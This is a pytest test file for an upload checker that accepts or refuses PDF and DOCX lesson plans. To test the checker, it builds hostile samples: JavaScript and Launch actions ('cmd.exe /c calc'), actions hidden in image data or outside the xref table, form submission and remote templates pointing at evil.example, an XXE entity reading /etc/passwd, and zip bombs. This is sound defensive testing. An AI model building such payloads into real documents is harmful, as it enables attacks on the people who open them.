"""Upload checks (hscm_odoo/tools/file_check.py): hostile samples are built here."""

import hashlib
import io
import logging
import re
import struct
import zipfile
import zlib

import pytest
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject, NumberObject

from hscm_tools import file_check as fc

VI_LETTERS = re.compile(
    "[àáảãạăằắẳẵặâầấẩẫậèéẻẽẹêềếểễệìíỉĩịòóỏõọôồốổỗộơờớởỡợùúủũụưừứửữựỳýỷỹỵđ]", re.IGNORECASE
)


# ---------------------------------------------------------------------------
# PDF builders
# ---------------------------------------------------------------------------
def build_pdf(objects, *, root=1, trailer_extra=b"", header=b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
              tail=b""):
    """A classic PDF: ``objects`` maps object numbers to bodies."""
    out = bytearray(header)
    offsets = {}
    for num in sorted(objects):
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + objects[num] + b"\nendobj\n"
    out += tail
    size = max(objects) + 1
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for num in range(1, size):
        if num in offsets:
            out += b"%010d 00000 n \n" % offsets[num]
        else:
            out += b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        size, root, trailer_extra, xref)
    return bytes(out)


def stream(entries, data):
    return b"<< " + entries + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


CONTENT = stream(b"", b"BT /F1 12 Tf 72 720 Td (Ke hoach bai day) Tj ET")


def simple_objects(*, catalog=b"", page=b"", pages=1, extra=None):
    """Catalog 1, page tree 2, content 3, font 4, pages 10...; ``extra`` from 20 on."""
    kids = b" ".join(b"%d 0 R" % (10 + i) for i in range(pages))
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R " + catalog + b">>",
        2: b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
        3: CONTENT,
        4: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    }
    for i in range(pages):
        objects[10 + i] = (
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R "
            b"/Resources << /Font << /F1 4 0 R >> >> " + page + b">>"
        )
    objects.update(extra or {})
    return objects


def simple_pdf(**kwargs):
    return build_pdf(simple_objects(**kwargs))


def build_pdf_with_objstm(plain, compressed, *, root=1, level=6):
    """Objects in ``compressed`` go into one object stream; the table is an xref stream."""
    numbers = sorted(compressed)
    body = b""
    index = []
    for num in numbers:
        index.append(b"%d %d" % (num, len(body)))
        body += compressed[num] + b"\n"
    head = b" ".join(index) + b"\n"
    stm = max(list(plain) + numbers) + 1
    xref_num = stm + 1
    objects = dict(plain)
    objects[stm] = stream(
        b"/Type /ObjStm /N %d /First %d /Filter /FlateDecode" % (len(numbers), len(head)),
        zlib.compress(head + body, level),
    )
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for num in sorted(objects):
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + objects[num] + b"\nendobj\n"
    offsets[xref_num] = len(out)
    size = xref_num + 1
    rows = bytearray()
    for num in range(size):
        if num in offsets:
            rows += struct.pack(">BIH", 1, offsets[num], 0)
        elif num in compressed:
            rows += struct.pack(">BIH", 2, stm, numbers.index(num))
        else:
            rows += struct.pack(">BIH", 0, 0, 0xFFFF)
    out += b"%d 0 obj\n" % xref_num + stream(
        b"/Type /XRef /Size %d /W [1 4 2] /Root %d 0 R" % (size, root), bytes(rows)
    ) + b"\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[xref_num]
    return bytes(out)


def writer_pdf(writer):
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def check(data, name="ke-hoach.pdf", **policy):
    verdict = fc.check_file(data, name, **policy)
    assert verdict.sha256 == hashlib.sha256(data).hexdigest()
    assert verdict.size == len(data)
    assert verdict.message_en and verdict.message_vi
    assert verdict.ok == (verdict.code == "ok")
    return verdict


# ---------------------------------------------------------------------------
# Accepted PDFs
# ---------------------------------------------------------------------------
def test_a_plain_pdf_is_accepted():
    verdict = check(simple_pdf(pages=3))
    assert verdict.ok and verdict.code == "ok"
    assert verdict.kind == "pdf" and verdict.pages == 3


def test_a_pypdf_written_pdf_is_accepted():
    writer = PdfWriter()
    for _ in range(4):
        writer.add_blank_page(595, 842)
    verdict = check(writer_pdf(writer))
    assert verdict.ok and verdict.pages == 4


def test_a_scanned_image_only_pdf_is_accepted():
    jpeg_like = b"\xff\xd8\xff\xe0" + bytes(range(256)) * 40 + b"\xff\xd9"
    image = stream(
        b"/Type /XObject /Subtype /Image /Width 100 /Height 100 /ColorSpace /DeviceRGB "
        b"/BitsPerComponent 8 /Filter /DCTDecode", jpeg_like)
    objects = simple_objects(page=b"/Resources << /XObject << /Im0 20 0 R >> >>",
                             extra={20: image})
    objects[3] = stream(b"", b"q 595 0 0 842 0 0 cm /Im0 Do Q")
    verdict = check(build_pdf(objects))
    assert verdict.ok and verdict.pages == 1


def test_a_destination_array_open_action_is_accepted():
    assert check(simple_pdf(catalog=b"/OpenAction [10 0 R /Fit]")).ok
    # the same array in its own object
    assert check(simple_pdf(catalog=b"/OpenAction 20 0 R", extra={20: b"[10 0 R /Fit]"})).ok


def test_a_goto_open_action_is_accepted():
    assert check(simple_pdf(catalog=b"/OpenAction << /S /GoTo /D [10 0 R /Fit] >>")).ok


def test_a_web_link_is_accepted_even_when_its_address_looks_like_a_pdf_name():
    link = (b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /F 4 /A << /S /URI "
            b"/URI (https://developer.mozilla.org/docs/Web/JavaScript/Launch) >> >>")
    verdict = check(simple_pdf(page=b"/Annots [20 0 R]", extra={20: link}))
    assert verdict.ok


@pytest.fixture
def fast_path_only(monkeypatch):
    """Fail if the structural (deep) check runs: ordinary files need only the scan."""

    def forbidden(self):
        raise AssertionError("the deep path ran")

    monkeypatch.setattr(fc._PdfCheck, "_deep_findings", forbidden)


def test_ordinary_files_need_only_the_lexical_scan(fast_path_only):
    assert check(simple_pdf(pages=3)).ok
    assert check(simple_pdf(catalog=b"/OpenAction [10 0 R /XYZ null null 0]")).ok
    link = (b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /F 4 /Border [0 0 0] "
            b"/A << /S /URI /URI (https://hanoi.edu.vn/) >> >>")
    assert check(simple_pdf(page=b"/Annots [20 0 R]", extra={20: link})).ok
    # a destination array kept in an object stream (pdfTeX does this)
    plain = {k: v for k, v in simple_objects().items() if k != 1}
    plain[1] = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 21 0 R >>"
    assert check(build_pdf_with_objstm(plain, {21: b"[10 0 R /Fit]"})).ok
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_outline_item(title="Tiết 1", page_number=0)
    assert check(writer_pdf(writer)).ok


def test_a_reportlab_lesson_plan_is_accepted(fast_path_only):
    from reportlab.lib.pagesizes import A4
    from reportlab.pdfgen import canvas

    buffer = io.BytesIO()
    pdf = canvas.Canvas(buffer, pagesize=A4)
    for page in range(3):
        pdf.bookmarkPage("p%d" % page)
        pdf.addOutlineEntry("Tiet %d" % (page + 1), "p%d" % page)
        pdf.drawString(72, 760, "Ke hoach bai day - tiet %d" % (page + 1))
        pdf.linkURL("https://hanoi.edu.vn/", (72, 700, 300, 720))
        pdf.rect(72, 400, 200, 200, fill=1)
        pdf.showPage()
    pdf.save()
    verdict = check(buffer.getvalue())
    assert verdict.ok and verdict.pages == 3


def test_a_pdf_named_docx_is_still_a_pdf():
    verdict = check(simple_pdf(), name="giao-an.docx")
    assert verdict.ok and verdict.kind == "pdf"


def test_reference_loops_terminate():
    # a dictionary loop and an array loop in the catalog: walked once each
    objects = simple_objects(
        catalog=b"/Loop 20 0 R /ALoop 22 0 R",
        extra={20: b"<< /Next 21 0 R >>", 21: b"<< /Next 20 0 R >>", 22: b"[22 0 R 23 0 R]",
               23: b"[22 0 R]"},
    )
    assert check(build_pdf(objects)).ok
    # the same loops next to something risky: the deep walk also terminates
    objects[1] = b"<< /Type /Catalog /Pages 2 0 R /Loop 20 0 R /ALoop 22 0 R /AA << /O 24 0 R >> >>"
    objects[24] = b"<< /S /URI /URI (http://example.com) /Next 24 0 R >>"
    assert check(build_pdf(objects)).code == "auto_action"


def test_a_page_tree_loop_is_unreadable():
    objects = simple_objects()
    objects[2] = b"<< /Type /Pages /Kids [10 0 R 2 0 R] /Count 2 >>"
    verdict = check(build_pdf(objects))
    assert verdict.code == "unreadable"


# ---------------------------------------------------------------------------
# Refused PDFs
# ---------------------------------------------------------------------------
JS = b"<< /S /JavaScript /JS (app.alert('x');) >>"


def test_javascript_in_the_names_tree():
    data = simple_pdf(catalog=b"/Names << /JavaScript 20 0 R >>",
                      extra={20: b"<< /Names [(a) 21 0 R] >>", 21: JS})
    assert check(data).code == "javascript"


def test_javascript_added_by_pypdf():
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_open_action(JavaScript("app.alert('hello');"))
    assert check(writer_pdf(writer)).code == "javascript"


def test_javascript_open_action():
    assert check(simple_pdf(catalog=b"/OpenAction 20 0 R", extra={20: JS})).code == "javascript"
    assert check(simple_pdf(catalog=b"/OpenAction " + JS)).code == "javascript"


def test_an_open_action_opening_a_web_address():
    data = simple_pdf(catalog=b"/OpenAction << /S /URI /URI (http://evil.example/ping) >>")
    assert check(data).code == "open_action"


def test_an_open_action_loop_is_refused():
    data = simple_pdf(catalog=b"/OpenAction 20 0 R",
                      extra={20: b"<< /S /GoTo /D [10 0 R /Fit] /Next 21 0 R >>",
                             21: b"<< /S /GoTo /D [10 0 R /Fit] /Next 20 0 R >>"})
    assert check(data).code == "open_action"


def test_launch_action_on_a_page_open():
    launch = b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"
    data = simple_pdf(page=b"/AA << /O 20 0 R >>", extra={20: launch})
    assert check(data).code == "launch_action"


def test_a_page_opening_a_web_address_by_itself():
    data = simple_pdf(page=b"/AA << /O << /S /URI /URI (http://evil.example/) >> >>")
    assert check(data).code == "auto_action"


def test_annotation_with_javascript_action():
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A 21 0 R >>"
    data = simple_pdf(page=b"/Annots [20 0 R]", extra={20: link, 21: JS})
    assert check(data).code == "javascript"


def test_annotation_additional_action_with_javascript():
    widget = b"<< /Type /Annot /Subtype /Widget /Rect [0 0 100 20] /AA << /E 21 0 R >> >>"
    data = simple_pdf(page=b"/Annots [20 0 R]", extra={20: widget, 21: JS})
    assert check(data).code == "javascript"


def test_javascript_in_an_outline_item():
    data = simple_pdf(
        catalog=b"/Outlines 20 0 R",
        extra={20: b"<< /Type /Outlines /First 21 0 R /Last 21 0 R /Count 1 >>",
               21: b"<< /Title (Muc 1) /Parent 20 0 R /A " + JS + b" >>"},
    )
    assert check(data).code == "javascript"


def test_javascript_with_an_escaped_name():
    action = b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>"
    data = simple_pdf(catalog=b"/OpenAction 20 0 R", extra={20: action})
    assert check(data).code == "javascript"


def test_javascript_inside_an_object_stream():
    plain = {k: v for k, v in simple_objects().items() if k != 1}
    compressed = {
        1: b"<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript 20 0 R >> >>",
        20: b"<< /Names [(a) 21 0 R] >>",
        21: JS,
    }
    assert check(build_pdf_with_objstm(plain, compressed)).code == "javascript"


def test_an_object_stream_without_risk_is_accepted():
    plain = {k: v for k, v in simple_objects(pages=2).items() if k not in (1, 10)}
    compressed = {1: b"<< /Type /Catalog /Pages 2 0 R >>",
                  10: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R >>"}
    verdict = check(build_pdf_with_objstm(plain, compressed))
    assert verdict.ok and verdict.pages == 2


def test_an_action_hidden_in_an_object_the_table_does_not_list():
    # Object 21 is not in the cross-reference table: a viewer that searches
    # the raw bytes for it (as pypdf does) would run it.
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A 21 0 R >>"
    hidden = b"21 0 obj\n<< /S /Launch /F (calc.exe) >>\nendobj\n"
    data = build_pdf(simple_objects(page=b"/Annots [20 0 R]", extra={20: link}), tail=hidden)
    assert check(data).code == "launch_action"


def test_a_duplicate_key_cannot_hide_an_action():
    # pypdf keeps the first /OpenAction (a destination), pdf.js the last one
    data = simple_pdf(catalog=b"/OpenAction [10 0 R /Fit] /OpenAction " + JS)
    assert check(data).code in ("javascript", "unreadable")
    data = simple_pdf(catalog=b"/OpenAction [10 0 R /Fit] "
                              b"/OpenAction << /S /URI /URI (http://evil.example/) >>")
    assert check(data).code == "unreadable"


def test_duplicate_keys_without_risky_names_are_tolerated():
    objects = simple_objects()
    objects[10] = objects[10].replace(b"/MediaBox [0 0 595 842]",
                                      b"/MediaBox [0 0 595 842] /MediaBox [0 0 600 800]")
    assert check(build_pdf(objects)).ok


def test_an_action_hidden_in_image_data():
    # "99 0 obj" sits inside the data of a large image; only the raw bytes
    # know it, and a viewer that rebuilds the table finds it.
    hidden = b"\n99 0 obj\n<< /S /Launch /F (calc.exe) >>\nendobj\n"
    pixels = bytes(range(256)) * 40 + hidden + bytes(range(256)) * 40
    image = stream(b"/Type /XObject /Subtype /Image /Width 100 /Height 100 /ColorSpace "
                   b"/DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode", pixels)
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A 99 0 R >>"
    data = simple_pdf(page=b"/Annots [20 0 R] /Resources << /XObject << /Im 21 0 R >> >>",
                      extra={20: link, 21: image})
    assert check(data).code == "launch_action"


def test_javascript_added_by_an_incremental_update():
    from pypdf import PdfReader

    original = simple_pdf(pages=2)
    writer = PdfWriter(PdfReader(io.BytesIO(original)), incremental=True)
    writer.add_open_action(JavaScript("app.alert(1);"))
    updated = writer_pdf(writer)
    assert updated.startswith(original[:100]) and len(updated) > len(original)
    assert check(updated).code == "javascript"


def test_submit_form():
    field = (b"<< /Type /Annot /Subtype /Widget /FT /Btn /T (gui) /Rect [0 0 100 20] "
             b"/A << /S /SubmitForm /F << /FS /URL /F (http://evil.example/) >> >> >>")
    data = simple_pdf(catalog=b"/AcroForm << /Fields [20 0 R] >>", page=b"/Annots [20 0 R]",
                      extra={20: field})
    assert check(data).code == "submit_form"


def test_import_data():
    data = simple_pdf(catalog=b"/OpenAction << /S /ImportData /F (data.fdf) >>")
    assert check(data).code == "import_data"


def test_xfa_form():
    xfa = stream(b"", b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'></xdp:xdp>")
    data = simple_pdf(catalog=b"/AcroForm << /Fields [] /XFA 20 0 R >>", extra={20: xfa})
    assert check(data).code == "xfa"


def test_embedded_files_name_tree():
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_attachment("bai-tap.exe", b"MZ not really")
    assert check(writer_pdf(writer)).code == "embedded_file"


def test_file_attachment_annotation():
    spec = b"<< /Type /Filespec /F (a.txt) /EF << /F 21 0 R >> >>"
    annot = (b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS " + spec + b" >>")
    data = simple_pdf(page=b"/Annots [20 0 R]",
                      extra={20: annot, 21: stream(b"/Type /EmbeddedFile", b"hello")})
    assert check(data).code == "embedded_file"


def test_an_image_read_from_another_computer():
    image = (b"<< /Type /XObject /Subtype /Image /Width 10 /Height 10 /BitsPerComponent 8 "
             b"/ColorSpace /DeviceRGB /FFilter /DCTDecode /F (\\\\\\\\evil.example\\\\x.jpg) "
             b"/Length 0 >>\nstream\n\nendstream")
    data = simple_pdf(page=b"/Resources << /XObject << /X 20 0 R >> >>", extra={20: image})
    assert check(data).code == "external_content"


def test_encrypted_pdf():
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt(user_password="", owner_password="owner", algorithm="RC4-128")
    verdict = check(writer_pdf(writer))
    assert verdict.code == "encrypted"
    assert "mật khẩu" in verdict.message_vi


def test_too_many_pages():
    verdict = check(simple_pdf(pages=5), max_pages=3)
    assert verdict.code == "too_many_pages"
    assert "3" in verdict.message_en and "3" in verdict.message_vi
    assert check(simple_pdf(pages=3), max_pages=3).ok


def test_a_pdf_without_pages():
    objects = simple_objects()
    objects[2] = b"<< /Type /Pages /Kids [] /Count 0 >>"
    verdict = check(build_pdf(objects))
    assert verdict.code == "no_pages" and not verdict.ok


def test_too_large_is_refused_before_parsing():
    data = b"%PDF-1.7\n" + b"x" * 5000  # not even a valid PDF
    verdict = check(data, max_size=1024)
    assert verdict.code == "too_large"
    assert verdict.kind is None
    assert "1 MB" not in verdict.message_en  # 1024 bytes is not a megabyte
    big = check(simple_pdf(), max_size=3 * 1024 * 1024)
    assert big.ok


def test_empty_file():
    verdict = check(b"")
    assert verdict.code == "empty"


def test_not_a_pdf_with_a_pdf_name():
    verdict = check(b"<html><body>Giao an</body></html>", name="giao-an.pdf")
    assert verdict.code == "not_pdf"
    assert "PDF" in verdict.message_en and "PDF" in verdict.message_vi


def test_pdf_marker_not_at_offset_zero():
    verdict = check(b"\n" + simple_pdf())
    assert verdict.code == "not_pdf"
    verdict = check(b"GIF89a" + simple_pdf(), name="a.pdf")
    assert verdict.code == "not_pdf"


@pytest.mark.parametrize("cut", [20, 200, -30])
def test_truncated_pdf_is_unreadable(cut):
    data = simple_pdf()[:cut]
    verdict = check(data)
    assert verdict.code == "unreadable"


def test_garbage_after_the_header_is_unreadable():
    verdict = check(b"%PDF-1.7\n" + bytes(range(256)) * 8)
    assert verdict.code == "unreadable"


def test_stacked_compression_is_a_bomb():
    inner = zlib.compress(zlib.compress(b"0" * 100000))
    content = stream(b"/Filter [/FlateDecode /FlateDecode]", inner)
    objects = simple_objects()
    objects[3] = content
    assert check(build_pdf(objects)).code == "compression_bomb"


def test_a_highly_compressed_page_content_is_a_bomb():
    bomb = zlib.compress(b"\0" * (64 * 1024 * 1024), 9)  # 64 MB in about 64 KB
    objects = simple_objects()
    objects[3] = stream(b"/Filter /FlateDecode", bomb)
    verdict = check(build_pdf(objects))
    assert verdict.code == "compression_bomb"


def test_a_refusal_names_the_most_serious_problem():
    data = simple_pdf(catalog=b"/OpenAction << /S /URI /URI (http://x/) >> "
                              b"/Names << /JavaScript 20 0 R >>",
                      extra={20: b"<< /Names [(a) 21 0 R] >>", 21: JS})
    assert check(data).code == "javascript"


def test_pypdf_warnings_do_not_reach_the_logs(caplog):
    damaged = simple_pdf().replace(b"startxref\n", b"startxref\n9")  # wrong pointer
    with caplog.at_level(logging.DEBUG):
        check(damaged)
        check(b"%PDF-1.7\n" + bytes(range(256)) * 8)
    assert not [r for r in caplog.records if r.levelno >= logging.WARNING]


# ---------------------------------------------------------------------------
# DOCX
# ---------------------------------------------------------------------------
W = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.wordprocessingml.document.main+xml"/>%s</Types>'
)
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="%s/officeDocument" Target="word/document.xml"/>'
    '</Relationships>' % W
)
DOCUMENT = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    'xmlns:o="urn:schemas-microsoft-com:office:office"><w:body><w:p><w:r>'
    '<w:t>Kế hoạch bài dạy</w:t></w:r></w:p>%s</w:body></w:document>'
)


def document_rels(*relationships):
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(relationships) + "</Relationships>"
    )


def make_docx(extra=None, *, content_types="", body="", rels=()):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES % content_types)
        archive.writestr("_rels/.rels", ROOT_RELS)
        archive.writestr("word/document.xml", DOCUMENT % body)
        archive.writestr("word/_rels/document.xml.rels", document_rels(*rels))
        for name, value in (extra or {}).items():
            archive.writestr(name, value)
    return buffer.getvalue()


DOCX = dict(allowed_formats=("pdf", "docx"))


def test_a_clean_docx_is_accepted_where_word_is_allowed():
    verdict = check(make_docx(), name="giao-an.docx", **DOCX)
    assert verdict.ok and verdict.kind == "docx" and verdict.pages is None


def test_a_docx_with_a_web_hyperlink_is_accepted():
    link = ('<Relationship Id="rId5" Type="%s/hyperlink" Target="https://hanoi.edu.vn/" '
            'TargetMode="External"/>' % W)
    assert check(make_docx(rels=[link]), name="a.docx", **DOCX).ok


def test_a_docx_is_refused_where_only_pdf_is_allowed():
    verdict = check(make_docx(), name="giao-an.docx")
    assert verdict.code == "format_not_allowed"
    assert "PDF" in verdict.message_vi


def test_docx_with_vba_project():
    data = make_docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"})
    assert check(data, name="a.docx", **DOCX).code == "docx_macro"


def test_docm_content_type_is_a_macro_document():
    macro_type = ('<Override PartName="/word/settings.xml" ContentType="application/'
                  'vnd.ms-word.document.macroEnabled.main+xml"/>')
    assert check(make_docx(content_types=macro_type), name="a.docx", **DOCX).code == "docx_macro"


def test_docx_with_activex():
    data = make_docx({"word/activeX/activeX1.xml": "<ax:ocx xmlns:ax='x'/>",
                      "word/activeX/activeX1.bin": b"\x00" * 64})
    assert check(data, name="a.docx", **DOCX).code == "docx_activex"


def test_docx_with_ole_object():
    data = make_docx({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + b"\x00" * 60})
    assert check(data, name="a.docx", **DOCX).code == "docx_ole"
    body = '<w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="rId9"/></w:object>'
    assert check(make_docx(body=body), name="a.docx", **DOCX).code == "docx_ole"


def test_docx_chart_workbook_is_accepted():
    # Word charts keep their data in an embedded .xlsx: not an OLE object
    data = make_docx({"word/embeddings/Microsoft_Excel_Worksheet.xlsx": b"PK\x03\x04data"})
    assert check(data, name="a.docx", **DOCX).ok


def test_docx_with_external_template():
    template = ('<Relationship Id="rId1" Type="%s/attachedTemplate" '
                'Target="http://evil.example/t.dotm" TargetMode="External"/>' % W)
    data = make_docx({"word/settings.xml": "<w:settings xmlns:w='x'/>",
                      "word/_rels/settings.xml.rels": document_rels(template)})
    assert check(data, name="a.docx", **DOCX).code == "docx_external_link"


def test_docx_with_externally_linked_image():
    image = ('<Relationship Id="rId7" Type="%s/image" Target="\\\\evil\\share\\a.png" '
             'TargetMode="External"/>' % W)
    assert check(make_docx(rels=[image]), name="a.docx", **DOCX).code == "docx_external_link"


def test_docx_zip_bomb_by_ratio():
    data = make_docx({"word/media/blank.bmp": b"\0" * (20 * 1024 * 1024)})
    assert check(data, name="a.docx", **DOCX).code == "zip_bomb"


def test_docx_zip_bomb_by_declared_size():
    data = bytearray(make_docx({"word/media/a.bin": b"small"}))
    entry = data.index(b"PK\x01\x02")  # central directory: the member claims 4 GB
    while data[entry + 46:entry + 62] != b"word/media/a.bin":
        entry = data.index(b"PK\x01\x02", entry + 4)
    data[entry + 24:entry + 28] = struct.pack("<I", 0xFFFFFFF0)  # uncompressed size
    assert check(bytes(data), name="a.docx", **DOCX).code == "zip_bomb"


def test_docx_with_a_dtd():
    evil = ('<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
            '<w:document xmlns:w="x">&x;</w:document>')
    data = make_docx({"word/footer1.xml": evil})
    assert check(data, name="a.docx", **DOCX).code == "docx_dtd"
    utf16 = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE w><w/>'.encode("utf-16")
    assert check(make_docx({"word/header1.xml": utf16}), name="a.docx", **DOCX).code == "docx_dtd"


def test_a_zip_that_is_not_a_word_document():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
    assert check(buffer.getvalue(), name="a.docx", **DOCX).code == "not_docx"


def test_not_a_docx_with_a_docx_name():
    assert check(b"just some text", name="giao-an.docx", **DOCX).code == "not_docx"
    assert check(b"just some text", name="giao-an.txt", **DOCX).code == "format_not_allowed"


def test_legacy_word_document():
    data = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 1024
    verdict = check(data, name="giao-an.doc")
    assert verdict.code == "legacy_doc"
    assert "PDF" in verdict.message_en and "PDF" in verdict.message_vi
    assert ".docx" in check(data, name="giao-an.doc", **DOCX).message_en


# ---------------------------------------------------------------------------
# Messages
# ---------------------------------------------------------------------------
def test_every_code_has_both_messages():
    params = fc.policy_params(("pdf", "docx"), 20 * 1024 * 1024, 200)
    for code, (en, vi) in fc.MESSAGES.items():
        assert en.strip() and vi.strip(), code
        assert (en % params) != "" and (vi % params) != ""
        assert VI_LETTERS.search(vi), "%s: no Vietnamese diacritics in %r" % (code, vi)
        assert not VI_LETTERS.search(en), code
        verdict = fc.make_verdict(code, params=params)
        assert "%(" not in verdict.message_en and "%(" not in verdict.message_vi


def test_every_refusal_code_used_by_the_module_has_messages():
    source = open(fc.__file__, encoding="utf-8").read()
    used = set(re.findall(r'(?:_Refuse|verdict|findings\.add|return)\(?\s*"([a-z_]+)"', source))
    used |= set(fc.PDF_FINDING_PRIORITY)
    used -= {"pdf", "docx", "hex", "a85", "risky", "objstm", "page", "pages", "ascii"}
    missing = sorted(code for code in used if code not in fc.MESSAGES)
    assert missing == []


def test_the_encrypted_message():
    verdict = fc.make_verdict("encrypted")
    assert "password" in verdict.message_en
    assert "mật khẩu" in verdict.message_vi


def test_messages_name_the_limits():
    verdict = check(simple_pdf(pages=4), max_pages=2)
    assert "2" in verdict.message_en
    verdict = check(b"%PDF-" + b"0" * 3 * 1024 * 1024, max_size=2 * 1024 * 1024)
    assert "2 MB" in verdict.message_en and "2 MB" in verdict.message_vi


def test_verdict_is_frozen():
    verdict = check(simple_pdf())
    with pytest.raises(Exception):
        verdict.code = "changed"


def test_stream_built_with_pypdf_objects_is_accepted():
    # a content stream pypdf writes itself (compressed), with an info dictionary
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    content = DecodedStreamObject()
    content.set_data(b"BT /F1 12 Tf 72 720 Td (Tiet 1) Tj ET")
    page[NameObject("/Contents")] = writer._add_object(content)
    page[NameObject("/Resources")] = DictionaryObject(
        {NameObject("/ProcSet"): NumberObject(0)})
    writer.add_metadata({"/Title": "Kế hoạch bài dạy"})
    writer.compress_identical_objects()
    assert check(writer_pdf(writer)).ok
